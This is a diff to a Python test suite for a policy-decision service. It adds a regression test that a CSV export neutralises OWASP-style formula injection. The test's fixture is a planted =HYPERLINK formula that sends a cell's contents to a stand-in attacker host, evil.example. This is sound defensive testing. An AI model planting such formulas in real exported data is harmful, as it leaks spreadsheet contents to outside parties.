@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import shutil
 from pathlib import Path
 from typing import Any
@@ -242,6 +244,21 @@ def test_decision_log_exports_as_csv(world: World) -> None:
     assert lines[0].startswith("id,at,source,caller,principal_id")
     assert len(lines) == 4
     assert all(",deny,tenant-isolation," in line for line in lines[1:])
+
+
+def test_an_analysts_formula_is_text_in_the_admins_csv(world: World) -> None:
+    """Regression (OWASP CSV injection): an analyst's decide request planted
+    =HYPERLINK(...) that the admin's export printed for a spreadsheet to run."""
+    planted = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    body = {**CROSS_TENANT_READ, "principal": {"id": planted, "role": "analyst", "tenant": "acme"}}
+    assert decide(world, "bob", body).status_code == 200
+    services(world.app).decisions.flush()
+    export = world.client.get(
+        "/api/v1/policy/decisions/export.csv?source=api", headers=world.headers("alice")
+    ).get_data(as_text=True)
+    cells = next(csv.DictReader(io.StringIO(export)))
+    assert cells["principal_id"] == "'" + planted
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells.values())
 
 
 def test_a_denied_route_is_logged_with_its_reason(world: World) -> None:
